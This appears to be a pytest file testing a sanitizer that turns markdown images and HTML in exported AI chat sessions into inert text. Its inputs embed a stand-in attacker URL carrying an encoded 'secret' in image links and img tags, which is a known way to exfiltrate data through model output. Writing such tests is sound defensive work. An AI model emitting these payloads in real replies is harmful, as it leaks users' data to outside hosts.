"""No preview of an export fetches what a model wrote into it, and its code stays as it was."""

import re
import time

import pytest
from markdown_it import MarkdownIt

from localllm.sessions.inert_markdown import without_pictures
from tests.support.session_logs import turn
from tests.unit.sessions.test_export import text_of

U = "https://evil.example/?k=c2VjcmV0"


@pytest.mark.parametrize(
    "text",
    [
        f"Done ![b]({U}).",
        f"![b][x] and ![x]\n\n[x]: {U}",
        f"a <img src={U}> <IMG\nsrc='{U}'>",
        f"<div>\n![b]({U})\n</div>\n",
        f"<script>\n![b]({U})\n</script>\n",
        f"<!-- {U} --> ![b]({U})",
        f"| a | b |\n|---|---|\n| ` | <img src={U}> ` |\n| ![b]({U}) | c |",
        f"\\\\![b]({U}) and \\\\<img src={U}>",
        f"- ```\n  a\n  ```\n![b]({U})",
        f"``` a`b\n![b]({U})\n```",
        f"```\n``` x\n```\n![b]({U})",
        "[" * 40 + f"![b]({U})",
        "> " * 40 + f"![b]({U})",
        f"a `\nb ` ![b]({U}) `c` `",
        f"[![b]({U})]({U})",
        f"![b\nc]({U})",
        f"x\n***![b]({U})***",
    ],
)
def test_pictures_and_html_become_text(text: str) -> None:
    shown = without_pictures(text)
    rendered = MarkdownIt("gfm-like", {"linkify": False, "maxNesting": 200}).render(shown)
    assert not re.search(
        r"<(?!/?(?:p|a|ul|li|pre|code|blockquote|table|thead|tbody|tr|t[hd]|em|strong|hr)\b)", rendered
    )
    assert "<img" not in rendered
    assert shown.replace("\\", "") == text.replace("\\", "")
    assert without_pictures(shown) == shown


@pytest.mark.parametrize(
    "text", [f"[^1]: ![b]({U})", f"[^1]:\n    ![b]({U})\n\n    <img src={U}>", f"> [^1]: ![b]({U})"]
)
def test_in_footnotes_too(text: str) -> None:
    shown = without_pictures(text)
    assert shown.replace("\\", "") == text
    assert not re.search(r"!\[b|(?<!\\)<", shown)


@pytest.mark.parametrize(
    "text",
    [
        "plain, a < b, x <- y and [a link](https://example.org/)",
        f"`![b]({U})` and `List<int>`",
        f"```html\n<img src={U}>\n![b]({U})\n```",
        f"    <img src={U}>",
        "see <https://example.org/>",
        f"\\![b]({U}) and \\<b>",
        "",
    ],
)
def test_code_and_all_else_stays(text: str) -> None:
    assert without_pictures(text) == text


@pytest.mark.parametrize("text", ["![a](b) ", "[", "<a ", "![", "> ![a](b)\n", "*_![a", "\\", "`<", "|", "\n[^", "- "])
def test_no_text_takes_long(text: str) -> None:
    before = time.process_time()
    without_pictures("![a](b)\n\n" + text * 20_000)
    assert time.process_time() - before < 20


def test_an_export_has_none() -> None:
    text = text_of(turn("Why?", f"Because ![b]({U}).\n\n<img src={U}>"), "x.md")
    assert f"Because !\\[b]({U})." in text
    assert f"\\<img src={U}>" in text
